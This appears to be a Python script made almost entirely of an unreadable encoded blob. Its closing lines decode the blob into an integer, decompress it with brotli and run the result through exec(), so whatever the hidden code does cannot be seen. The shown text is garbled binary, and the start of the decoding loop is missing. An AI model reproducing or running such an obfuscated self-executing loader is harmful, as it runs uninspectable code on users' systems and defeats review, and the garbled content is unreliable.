(y	'E<Jc4'߷U	 !V]n9W8Cc:*	I4	\	%+PWܒ<;:߮`glPځ%.Ld4AL*oYo+mj]j)%End=ͮ)VV[Bְ,M_?ѣüA@=ӎ6=͒6PsP΄G:wqӌ>drbتbYٱ1eҎ7M>pq	892ȮлLc._Ԛ#WɪpeW10CV}(Uic	=bNΏ͖ƪt_I~mF?ulKpzz֧$CȄ$>ֲM9@7Yw3fjb2hԘApEn&T+ɥiKŸ0w, 7Ӹ̰OUr75rιPJ1T͏)ΨjI	xՎP0Wd:ЭtHћF`yŻ-.yE%G~Z8ϻZф.ި)'P_]\9p^CԉS=X$uMɉ
X9
58w<Gäu&5yk"5ZtO?ҼXN7T߂T4U?&N z)KR5,h~unׁu0.Ag؄YB_r	ыgeJ@Ke] B[&1R&9A"O:,FdA<ee4\9n>xOT~##Y54.F7ԝ1<qnpbSO'טjordѦW0޳_EvĢ>'ɯZO61=|Z ɲ`sԌQ֢V<|]_ق:Q̠,t[s<<2Ղ\B4W,e=Z#v9ʪé#@8_k~|c3#ܤۚot٢dDyO'>o7$5rbݽ}ԉykU
#HNtNW8D?lK2O}ǖ3v6T~ڏBE2`,'09bjɹ1wÚ:_AG\y"r>DԡЗѾܡ.ąN0P-~S"J(a^G>l<~ȸ.\@^Vstrܱֆ+X!yʧkS1#c{j0nh҈.յenAf7LKc<fRBԩH.ӓ1Ӫ/F`IS*c7bwoa4
Sv9ԾQKckg;emHȋZOǪtB"?f
7I9;HvvφYԜ$tZβZ-36kk1NGZN%E^~kY%<ǁ(3؍VDuۙPljR;*Csb
/,OA"sϙ7͕';ZCT"S>Ф@H09]39gBB̶ cȯ֫LvQvŜVM̵Aڽ?O`Dmʆ`2oB*Ӟx_vhSGJ9>LkĻP\ъ}TzGú5|tAi?"`I'2#26ר7J

Ւl0ys\*L$Ysh(Jd^91ȃZX
!,5NJϨv4An#4%%	nNdރO[$M=,Z45`67]#P=}IAHt4l-nʬq>Eb4۽Xgcmi+-FxlBXbwk|)F@:̪Iz\{z̀^KM6^	KGMjm	g36#L5ƀ:߲)~m5;,?{,JˡeL-Dͽxd?ޝ1szXd,pݱ7	"ZַLN]O<Ӑ>
k% b!w,Hۃ:hPY$F*rh~ʗ-ǳSѤ|8T*ϵG=03sy(d`a4\3%4w7
1q*`C]bgTآ<WFUVj10D>JdZ7ĥoɗ"1ͷynܹ-dܽpi$,e0̱V6ۋ#)l7'-mk
1:ȗ]26oRVl8пsܶ?)TaBN-nɳ;Nt@60NO|E;|rL<b\pi%ovRJ̰<>+VP"y%1\N,0ݷZb&fQQ
vX2t#U&b*@ٯ;[ˁ
Biռd0e~&G@pɎI{=ow(?rptʭknSInIP)-'΃v{Ԯj!m%oՓ#4 h?!,)K[Sީ1v̶z<O_fo[p9%VZĖBЋ74Č|v}ڜkƌk+<vseQFS!^8dg͡59|+U/^f<`	=C 1]vC11*$۞i2`ū!b.mوZQlwT,`ω~pc1]ֆ_;.֭=|E"֍V_&ԍ>=1b1Үˆ)3Ţq&)Bu͝y?	aOqBLpdCY2޸xHAgOjֵYK#	79RW5a)dp,#:D+2;nnL_nX4bְ\=Ⱥ9Eo9M;LpVYg~*/ݱ]r7INU6H!Oՠd݊LUbRdur H=t0Tsn.u,MaMyͧrTbsdiض?~qL&E`eR~(~nr>Utp
u>[&1ņÆV1(s!Yhgt_lB3PNܖ`­j/Lz}(ͫE&r))Ll:uͅ&bIBٌڽhm׿JwaާQ#y#5G:o*W
JyOd>ȧ8V87*w*i_FW!u~>rF7طRͻ^CyĩV>58u:yBq](op|}0^7	3z|t?

yݼ[p]m2J*IpWD#<U;L%ߡԿ}lJݟ|H&x^m5ԷX^T?$|eX[%stю/#BPwcZu/LU3D<}Bȏv~	O5-ؘU3hF,7h2	~vleLšc¼.*ܣTBy۹l0?ĪSTmܸ}	׆ʣWGQ)=˩q<nw'x#jCmSuI{TxW<^`_QnISJ>ҮνBqs֑=uSCAYj_FJclfDPM~{m{
g(ϙ.`cccR65K;:C'eci3yj#fD,^^ƏH9?PHCU`cӹD_RI٠ݷK;fI9׻ޣ<_89+FH[_߷ߧ=ہl1	TUh`pB^Nӗ,:\
 "%
\>|շ	C498t/`ˋX}pH(ź(I`.;WWމJ;=@Yo.WH6tq%ĠM
Jo2>[(EZEm]dǃg0RKdqzEvL~ٙ.C)geoP56fkTJ=߆[)_!8(T]/<#yDLwx`߆LIևH|K.y~}r[.u	ٜ$ +p0K{j2c2}c<ZgW?q.+W1U6P*֎!9z,.E@Иv8BCx|i	wyZg.st;h=QYOڝB2emi@A.^WtUF;[Ēc,5"WM	"|6Gqr4=ּu~KNUFNqG>ƋH{27cUx`g{Uf$ͩ rɴ"||llm~0t,ݨ0@]؛zpn261B$>Ӯ֡5;t4rݵ9B _κБ	~V8%UQpǖZs&~OK8xlaW[neYddzNXMPE?l_[dEpyCZGJ>|bE3ˉ$4ܝh?U"ЗhVGBqԊlƧinQLǿhA.Seȼc Et:&ft
dY7Cm"ñɤ4gj:67bq=jVNVzy`\MGGTTiޡL:(W'ŬMHuQNX5x?BPaaIGk~goWM$>3cC$gutGmrIpLfN.[oDwOo=ݖck/?V
Mx%MϏdQIt	-)=sP*
w.ڼZW9V*tԚǨ\Mb_:o(g˺2T~g"	Oxfۏ`'s+h>͖ìN~sbhR1~mN__>yJJznwNbURG+i}:^KJSk 7Rrfo,ip$+!-#$Wxuڠ>Sg=H>p#Og&e3m֕-Xt*a*M>h)HA7@_Fy<ԏ;ûԊb#Z7ūD=`(ca`,113'HҿS}yvά ;Z$ϥu&$!kEd`؃{[A7H?qGpݑz9H[xY0QY
^ݤ$n=%*eJW\;pY.˩E>+gu%YwEP;'C<D.`P^ʝ%c&6NYn>mg۬Ee((P(HCFCԔ]AE_%ZU/SS~ĝVyj@k{^΃ND܎dxrӖ	l
dݽڽȞ҈r4|ǘCۖ?sUlЄɤtK>Cӷ{fj{:w.̾XuQʅwg `$eXFy{ݨ׾~kñ.ZY}9 rS'dX9B0vcIl!`F)MȠD	EdgĚW<q5gKGE&fK0C5M˲*!X/	tThBfBg1,Jd՝	9XxqZ=Kw5sRt/+Փٴf}jVZ 	G)8("e/+ɪk9R?Npһ?2a	".Se/9Ӕye#ۉ/5EΝ[bo`(%D.O8:ә[3psPXwT'ez܁DXۺb9nCvkde
z$
[*h˙yPAӇùoxC֖be8,kLS|iڄ5bHAhxOY|l#<c5?-mD`.V&(14"=
#$ء1-	8շnMc7;IFsaˤi,z/M̶=ffCTRmd;7=*)DƔ+5$mp;UQsESIzB]NȔ<LS&soX}aȿ'sR|Cj̯]q}Dm'Q1OfЖ\U֬foyO4;ۢӁp6|ݞ>}р?i.WBVPhbhxuy%HpBͣJ4.,G!Ç7jz֣i*<sYBh%ܵ?,{v|8zڲ~^4T#؁^T֗+vjH}WGց5*5aV6ګb[?=YhI& 3ٴk|QK-7%i3˼:LyU;VJW[V6X՛"yOu)w6sZؚʊE%cյҺy~T?ٓ{$CȟY\Xq,s#~ƯnZˇީJ@׷O&E7FEM=câèx&Im	#b<N}.1'LV6CC	k"ĄHR'ZSs<7Ē^_6 .ٵ=8?ya*t=ZAK#1%Y
0Ja9ϪVI} CCNxM!0H	/A;܍+SwKխ:b>P, dAƲZ7$М7J<d!;=Esf	7CNQ`U}z/ʢmFg?{tmRycl]D}WlKH ˯9	cj9*	wdהf@+.\"K 5-E}7#қ2Xo[^1l!6B5[?"@MH>ݛD>Ws g!FQNPE(j$yV+QE^t^?,IIҙ@̯X֟Я9߲&~G̀$%}Lt3АhwJiD=1HމT`l33Y#Щ\%>kZ?O'٧ЌW22ռTݒRG1FI)kt]c2:Qm2ش/DZ5Pf/ȁlJTvv<1WfxM۔IG!gK.yAvڤg*#ӼӮ̧-։>b_c((}%wC~L%_%2mnk ֍$a+s- Eiܒ61~!|#Ku|E9ߢTǀ5zJgG<	vE8dy 1M"cg_iWB̶t7)p;4,UHau_ev)Aߔ&Csq!zn6p64E$JcMA)NvxHI6B^]	OOԮ7^=ֲ̀
9l@1D0ډL^ruvPֱo%:`"mfFα[rTh
DE,qּ32	MuE36%7Rė G;dfQEM̳4C3څW*Cg]˪vjwtV9:\׮B_u!ӥTvl͘]rakfК̙o/yqťai
BܔeIYڳb0fh/iҥjj)~`Pۛ*m_x#=G|8<u:? gbQ-ڻpMp4HQl^
R̔0¹\]<yܫyߤ{2a.UEIES*5ɭ L7u9>>D/D_m=9Xd-j-!~F"aܫ_+*XVq$U+ލ>FNOߦo%%]/0EtM+`uǒLP+v:ˋ9;%fInqkgɃ}d!Ob'i^ww$և*ۄҲm^7oK#aDPk0FӲZʼԵJJK̠wDrv(:`ނ̭-ьDMz@xfϥ`#.x{; 0g`Qfù*m6L\*C6VIdiWKlOhWn)3nFyv(qȮ))0i?]^Xl˃$OZo!؛h88Xeŀ_̀aJȅxزQ_h$Ĕ.WF׸*mRDuGʦenDh6rHA*qǢ&R$.8e4ATQ1?L{Dv&{6G_('/OsB%5qb`Dx^O#&syd4aU&#=\t#Wm[|S*H!rVI4w$rvUfT#cNC#mlB$/W1$u]S0e<kʑao]/?6/܂7p!=uΨyČ9-G΋1r]!CIEKi-^R-+SQNfCKU\J%(XTTjw	zzFotEqvI܃^,յ&/:cY5Gr\ЮĳM")]n."?שq6?
cv@CKc!чw/T~8KӗN{$XlA;7/Cb:A/َxH4KN6 zhyƘj"Z[xfr-'Y".jӿ)(yñٽ\JJnma.:2YQV<-wM2TaP%	;JE,-ŉ 7?(ҡ[ғv:%$ѧ1]vҝ|Fovz
JB{ĥ:IqF1N&Xv^7&EC}1wn$(HBDS4͗41	G_.L Wk΄Χv!Bt/ˢ^-ޗKD^І=9N؅y˻Or} zBHݕtn]up0o/NK]&nJXނłێ2:CuBXe[*(xJ,Ya68(Z-(lqnCg	jCy''_=H3#~K_I&`i<0#$Ǉu̸fX;YaUCm')3?~]p,pK
:cM-qmϼ8wYucz
L;I^4ΑÄh)Ȋ֊ma.Ά)cķŔ8t%fxϗ I<Mu:<B]C.Q"\c%s~__te*\F)BNn&S=}1Ɂީ{bXF#gXaņQ؀Q_ύ;(&;}s';#ěIu3/:rƷI<Kҫo-O>sH#r])4)vY׷MQUfUoXNۮ(HCQHˁ{Q@Yu~fSEf`]E'(:T+ݠvoj*:u{Nζߋ>$Dqfv<݅_{};3$]Vٳ;o9j,,x٢2D@l4tyn)6۟$KNh;F/$NnX0->nwΙLMI"Q(:[CIviFwKճpBLprŔC/<I@Ced,8O/{#K٧;ҟv4ג_#eTU<Б'm2ɘxXѺ5]dV h8zɹ	ZS};<E_Uf'_U׆ۈ׶84!EnQѺ}Wj/^f[TNfYU47I].!!n=4.8\\¤)|T>	;|ɛuw-G/j3֣T|]UCf(kDɯ[i^c8LӯRsB?ڋDjBw;UAN0kO-`ҋ՜t̍uנxqOFbNß;AJ%=2lt޳0!{B"W&Ҫ=dyߍds2jZ=;φIIj@)>o֚$L@ߒRbkt1Bt?boʌrŔ}џI	s0&0gM]Cxq$T~mUoxޅmfAGܮA$4Lr$#3ܕ|A8"(|.וEa<CXsNs.{Ɨ=DcWOѡou	]eWǃAD4<x^amХoq8֕3l9	@ZKztB <a#2a,`SϬnCô`8^՟$͋}g:'4h.l.C{}`WNBb#PvNiMY2?B$ЗD	HVIWw4yUU20ŀMZFeqrQ>	)E2ח?K˒kq^aP~}J1/zk/Ryȣ&CAiC,bA$y$mt1_3HQ@ȟk<%7eZcIľAKAE2~=p%db$12PqGŧݡfl΂pE,dg6HC^݌zx&ԗ~؇XBWZ(ͣILnEFSoGZU6s0XC%
GDʂjm8n	DΖA<׿Ҵceo9lƝgo;s:NS|r;-0H۝ʘM:A13G&>7͕kN"'DVҍ$}|=T.Gh&[L.*Uv>ۓ>&]KI5^M@"4T˝]+If%(+)(VrqՃ$+?7C_pnHѾ=5
ѣLRsyרF3M^ Ӟ?1gukOI[sztؤ"7	zx=u{;\X
b
4myN13J!Gvq0̼|x\Fe#Pi.|%B6
xAŚZ:Č\x)E3Y|1[uTcȐ%#.=,qr_TlP@M0+Q,K^=u5soz1Əx%hD6_em%1bś˿6*rϘƟZܟnz3͂J|rp8l,{-i(vh_FRrC}axbr%uSQUZ|kUhj/|wY-1i݄d?ԺM` G!Jr)ilzƑ[dm+ў/fB41@,[6b
%KBGp*Mvg&TۿHT2Iqri%tn;,w@:ѽ^q`vş'
h

m2CMl\րqPϾVe4(e|=
n'gf6Sbۗ2_U2`c3(%]4{9b;/J~ߙTP#Kjlx}xZDҥ)	|PolX|R dB{6$GJcSE1.s07Zz`qnc|{DGa9*/yo&kYNvAuDf(NɱIF>*ĸ2yK5c(pݹ>T˗,hVnlMPSg7h} _n
*|<vL~iߍvUHˀ< eYKzX=~mӱI>:SIQܠFs7"ϷrSzJ;WmʵbP]1/%
n:Xy0'kn}-kUڑ~3FǮ<YșwI
dG(Iȳoa2)oGXa;n>,{x'[ǈ!_80GOP48&Q3']ʧȟ5ʀͧ/1܋0S8`ħCdd?
C*aOvk"B T(SUy״0-̑B5UKl^j m9^qwAWTs8S7|f{ODnI?J1$
AE6-dArx5ouկvF@c(;Ed]h+LUЀܰ?!y<cY݇N@954G\Pb;'6ű"IwZmq@rcՀThMP@{ϫZgqٽ=*?;GnkEJuWWp'V֋S79ԩrZ}?L*~֢mD͕fTaN}˰΢Sq=<x6^)&vʝç[O@"˨&&sOyQ=Åf-WO+hNoΉM΍p*\Ln#:H\{ar܏i;z
]ltML|5bNG25zf{`b4	@[|AFCL!|ۿAF 3r;pQ:5,(âBZH&̐%oAEŎ_X7m#יo7XX޹uaNZnbľϮÌP|>1 qT׿ي!|ɕD<P7ۭ&JɌgyzɀ2ɴh(~r/~9їK "DlK<<vӸH}FTYoDb1z'f;,=ӲX3)j~ƾ<lGߴ5J?d6~z.Fˤ<VDf57"pEԇUG1L"BB{PD$t6UTX428'v/loNESbƫ/KW/l_d/
ֶlse``h
}V9DYNAiDW#3ʷ^KutOLB9&޷aLw1ͣG ύ~A¿`!^}ѭ1ޑ>!{ң t>FxoulJ^fij>ӗe$ȟ6 ǔMYDq9ϖPȣyK=+_NTe}cnJsۊܴOgvA\2r1>]Abvĵk[{ņ݅Ŕ%shfC_DsthyĊfo,Ϝ1*muhdXZBQ;g@ڃ3-Zեw`V:AXZw+ޏsh]sYXMcPw4jVe/,RS~y>uY|%t:a%L>$!SCi>βGo}/4=HZݴ@3O>XDԝ^f]݃
q 2xL[h~mɫ΂C={yKr:2֔DCRS|<0۾I&E_6>zVQFtրSkRQtXʣ#+Ffv 5*go6`B1G-7wimƻ{?FNA]XǪqHn5B^/B׵L@KN	ى&dwYMՓx[c
ZbƊ'yyD$[)-QԸeeq̤ͬפGsU9Cƕ6}c$!DtF5u*[_ׯ'ٵ4CJZVt\5ÿ9jֻ'67Y]>>ڴwK]5&ӽo]S-Ҵq"=nhK,yYǥTF#jxWxp$n~tY&ir"a;Pf<j?{qX!GIݚ dwr*'D4Wdk"71dx&I=Iby9ۨ2O:xy&5\L;xK̚è{{7j-ֱ?JUc:xͮG<Ơf3m	Msq9T&|dq9aA?\|σb+vEgȇw{u%39F܀ڨeŵ["(0ihk	LְY{Ky 5[
>[]ÜާB{ԽkuXF)O)OexLzp̚8IHh5ЯkzNSKĻPNNυ2]ύ>?-rĈ$'],tg*Ѻp)Oy2lA)T˛q2>Fgź;
Oƨ/'&ΠbKZcܥ@f&ȅ+q]^+jc]ʻd a2ZY3	Ҍ:5ҹ (V3zRWӥqKU\USAV4!&Kf7
$pk'D]yizW`܅4K_tItLSda	{Æ,9Sß
DI%bP r`[ӡ-̓`=a1(}\|F pl{Ǒ;13h:ȕ%	>"ݝ .AkסHAX#HHN{-a{:w|0zҎj۵ҕ:POlCnΛAے1ז/qZGFw5@(A|ىZ/[_y
HIN{İoh֍߹WU\Z4 i><6 .F)#FȦ&KL*ؚ5P`W%/%Jl%FQ˻"yΗWh2-klK]2&Ky.#e8CTHmnnjgޢ11vl}FM@Ѵ5+_KБ͒Ӈ%_hYkRR#?҂Uӹ3(h*86F;itj}9tMvfNkl2l)b]N?_aϑM5HVa2pؕ?Fb+!!8;ߡD3;ʺ278nOmrmygn*۵5gZWyJ-߃/UPCt(}@O&YAڭs+wŭvT˕wDRT͕Fsyw֨[eU`kkfRڄJBCy+
LϼsIw`/:W-uezA}Ѕ}"6oD'I07m6y-2gGLl\I٬~	»MjЎjӇM[N;+0\gIoнJo`rϬϯc nYrI~}Sfar>-<dΖ*m\d2uVMG<$=S{p <3<|2$
p*~'SEN=&}s@3x6Ϳ(#-XMj^4&v۾JÊ{Ρ_ٖPsD#	x){p|ЋCЬ7<"ԓ#!$z8o9\WoBfr33X`aß߀3r8_H{-B9buP}-*	Vܭ ɉ74En@zضբCY~*.ܾoYEGFۂfCEi~>\a@C,xKʫ;BI@ɵI?Qs{-d]mof}^C:w}N&:xtwΧV p߽7v8toJZE:0Wњ+Aޙϥù$*#;XO%}q'^c
`9Cl֖|.Y'%h`n@Md2p1ZהلFz`͈єzwgI~ؚHd##'-otGFE	ȕk!sο@sZ9וnkS4B˳(DFoժ7ܫd<͏Z(0C:͙C$z>sY76Kym|4iJU4Zĳ/Gl=/g%6ev|_m.}aKHθRL]ZcPjNFOoAfMvn1@[/<+";2(m8|l}+k0@C?"ӗʸF#Fۦ
NU@hTu֞)@yRvȚnC<@ɍ,+lX>p"#_9#}
^w&bқ]lu@Gbȱn:hwņhx]5.\OM@HǃشH<-uY͆՟uєZ] ;+,X3ϘNUW ^h;w4u(,=4K\mWJW;2|pȭ&޽ApӐ{\x7؄,FH̚yw| CI%$TL|nv͉2}Qruyd?PO`P56\»zd`ؿD]:)ڿ1"lp=*KQDں(j9{8yW9<,SߑK`.65ҍe -GDkLΎmth]Q?J4^h,l'GVR_Wso;;'tq=e,9l`\ݚХ?φ<-3>5lٲ(AP*d7FͮH+J|Yx^>=E%ܴz	[,*j,nXh{;u}Vo`5Z&!rDrM4Vm!@٠ma~}äzkw	(g7SG1Jl$&1w(^VDߺ)+U¢2:vmnƖ%ɪ.:3rI.FaF+62"Խ5\^+<DA"@$9y_X}ʅ)'mIa܊Fi
%\(o3Ro޸J^NdQE-RRV1DOPԧҥ;MfIcח VqֹX5Dȱ/b6}|TiކɏvDAyI'TV څʚ$&6э~3U)Asݐ
2ك>i}'^EI(x+rϢ\zVfAEءօ|@jazḰo߅WC;/I7j?eSVMw+ʩyPϿnPYs7VV{YۑK6Ylm1`~I^;ٚ%lV._.Jpg''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25614)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
